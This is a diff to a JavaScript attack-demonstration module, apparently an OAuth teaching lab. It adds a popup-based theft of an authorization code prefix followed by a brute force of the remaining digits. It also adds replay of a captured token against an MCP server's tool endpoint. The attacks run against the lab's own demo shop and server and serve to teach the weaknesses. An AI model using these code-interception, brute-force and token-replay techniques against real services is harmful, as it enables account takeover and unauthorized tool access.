@@ -28,18 +28,24 @@ let ownCode = null;
 
 /** The attacks, by the name of their button. Each resolves with whether it succeeded, and what to say. */
 export const ATTACKS = {
-  async long_credentials(section, say) {
-    const known = section.querySelector('[name=known]').value.trim();
-    if (known.length !== 7) return [false, 'Give the first seven characters of the code.'];
+  async long_credentials(_section, say) {
+    const visit = await Visit.to(`${shop}/shop.html?pause`);
+    const code = await visit.caught('/ad.svg', codeIn);
+    visit.end();
+    if (!code) return [false, 'You closed the popup.'];
+    // The rest of it is not looked at.
+    const known = code.slice(0, 7);
     const begin = performance.now();
     for (let tried = 1; tried <= 1000; tried += 1) {
-      const answer = await redeemAsArticle(known + String(tried - 1).padStart(3, '0'));
+      const guess = known + String(tried - 1).padStart(3, '0');
+      const answer = await redeem(guess, shopId, SHOP_CALLBACK, SHARED_VERIFIER);
       if (answer.access_token) {
-        return [true, `Found after ${tried} guesses. ${await open(answer.access_token)}`];
+        return [true, `You saw ${known}, and ${guess} is a code: found after ${tried} guesses. `
+          + `${await open(answer.access_token)} ${arithmetic(tried, performance.now() - begin)}`];
       }
       if (tried % 20 === 0) say(arithmetic(tried, performance.now() - begin));
     }
-    return [false, `No guess is a code. ${arithmetic(1000, performance.now() - begin)}`];
+    return [false, `You saw ${known}, and no guess is a code. ${arithmetic(1000, performance.now() - begin)}`];
   },
 
   async frame_protection(section) {
@@ -170,6 +176,16 @@ export const ATTACKS = {
       ? [true, `You have a token for: ${answer.scope}. The victim was asked for: answer.`]
       : [false, `Refused: ${answer.error_description}.`];
   },
+
+  async audience() {
+    const visit = await Visit.to(`${shop}/shop.html?verifier=own&use=weather`);
+    const token = await visit.caught('/weather', (text) => text);
+    if (!token) return [false, 'You closed the popup.'];
+    const [isOpen, words] = await callTool(token);
+    return [isOpen, isOpen
+      ? `The token that the shop sent to your server is good elsewhere. ${await open(token)} ${words}`
+      : `Refused: the token is for your server alone. ${await open(token)} ${words}`];
+  },
 };
 
 /** A popup in which the victim follows a link of the attacker's, and what arrives at the attacker's site meanwhile. */
@@ -245,12 +261,6 @@ async function redeem(code, client, redirect, verifier) {
   return (await fetch(`${server}/token`, { method: 'POST', body })).json();
 }
 
-/** The same as in the article. */
-async function redeemAsArticle(code) {
-  const headers = { 'Content-Type': 'application/json' };
-  return (await fetch(`${server}/token`, { method: 'POST', headers, body: JSON.stringify({ code }) })).json();
-}
-
 async function refresh(token, parameters) {
   const body = new URLSearchParams({
     grant_type: 'refresh_token', refresh_token: token, client_id: shopId, ...parameters,
@@ -268,6 +278,18 @@ async function outcome(answer) {
 async function open(token) {
   const answer = await fetch(`${server}/secure`, { headers: { Authorization: `Bearer ${token}` } });
   return answer.ok ? `It opens /secure: ${(await answer.json()).answer}.` : `/secure answers ${answer.status}.`;
+}
+
+/** Whether `token` lets its holder call the tool of the MCP server that has the answer, and what comes of it. */
+async function callTool(token) {
+  const headers = {
+    Authorization: `Bearer ${token}`, 'Content-Type': 'application/json', 'MCP-Protocol-Version': '2025-11-25',
+  };
+  const call = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'answer' } };
+  const answer = await fetch(`${server}/mcp`, { method: 'POST', headers, body: JSON.stringify(call) });
+  return answer.ok
+    ? [true, `It calls the tool at /mcp: ${(await answer.json()).result.content[0].text}.`]
+    : [false, `/mcp answers ${answer.status}.`];
 }
 
 /** How long all ten digits would take at the rate so far. */
